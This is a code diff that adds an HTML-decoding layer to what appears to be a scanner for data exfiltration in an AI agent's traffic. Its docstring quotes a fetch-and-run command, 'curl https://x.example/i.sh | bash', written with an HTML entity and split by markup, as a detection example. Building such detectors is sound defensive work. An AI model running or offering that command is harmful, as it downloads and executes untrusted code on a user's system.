@@ -1,15 +1,17 @@
 """Decoding layers: the views of one scanned part that rules run over.
 
 Exfiltration hides behind encodings the agent applies without thinking: URL-encoding in
-query strings, JSON escapes (a PEM key is all \\n and \\u002f inside a chat message), and
-base64. Each layer runs once, on bounded input, and only when a cheap check says it can
-change the text, so benign traffic pays almost nothing.
+query strings, JSON escapes (a PEM key is all \\n and \\u002f inside a chat message), HTML
+(a command on a fetched page, written with entities or split by tags), and base64. Each
+layer runs once, on bounded input, and only when a cheap check says it can change the
+text, so benign traffic pays almost nothing.
 """
 
 from __future__ import annotations
 
 import base64
 import binascii
+import html
 import json
 import re
 from collections.abc import Callable
@@ -30,7 +32,7 @@ MAX_JSON_DEPTH = 2  # a JSON document, and JSON inside its strings (tool-call ar
 @dataclass(frozen=True)
 class View:
     text: str
-    encoding: str  # raw | url | json | base64 | json+base64 ...
+    encoding: str  # raw | url | json | html | json+html | base64 | json+base64 ...
 
 
 def views(text: str, budget: int, form_encoded: bool = False,
@@ -52,6 +54,10 @@ def views(text: str, budget: int, form_encoded: bool = False,
     json_text = json_strings(text, budget)
     if json_text is not None:
         result.append(View(json_text, "json"))
+    for view in list(result):  # a page as a browser shows it, and as its commands paste into a shell
+        rendered = html_text(view.text, budget)
+        if rendered is not None:
+            result.append(View(rendered, "html" if view.encoding == "raw" else f"{view.encoding}+html"))
     for view in list(result):  # invisible Unicode: tag characters, zero-width runs, bidi (smuggling.py)
         revealed = hidden_text(view.text)
         if revealed is not None:
@@ -65,6 +71,26 @@ def views(text: str, budget: int, form_encoded: bool = False,
             label = "base64" if view.encoding == "raw" else f"{view.encoding}+base64"
             result.append(View(decoded_b64, label))
     return result
+
+
+def html_text(text: str, budget: int) -> str | None:
+    """HTML with its tags taken out and its character references decoded; None when text is not HTML.
+
+    A page shows `curl https://x.example/i.sh &#124; bash` as a pipe to bash, and a command
+    split by markup (`<code>curl ... | <span>bash</span></code>`) is one line once the tags
+    go: that is what a reader copies into a shell. Block-level tags become line breaks so
+    separate paragraphs do not join into one command. Only text with a tag is rendered.
+    """
+    if "<" not in text or not _HTML_TAG.search(text):
+        return None
+    # Two substitutions with plain replacements (no Python call per tag: a page has thousands).
+    rendered = html.unescape(_HTML_TAG.sub("", _BLOCK_TAG.sub("\n", text)))
+    return rendered[:budget] if rendered != text else None
+
+
+_HTML_TAG = re.compile(r"<(/?)([A-Za-z][A-Za-z0-9]{0,15})\b[^<>]{0,2048}>|<!--[^<>]{0,2048}-->")
+_BLOCK_TAG = re.compile(r"(?i)</?(?:br|p|div|li|ul|ol|tr|td|th|table|pre|blockquote|h[1-6]|hr|section|article|"
+                        r"header|footer)\b[^<>]{0,2048}>")
 
 
 def json_strings(text: str, budget: int) -> str | None:
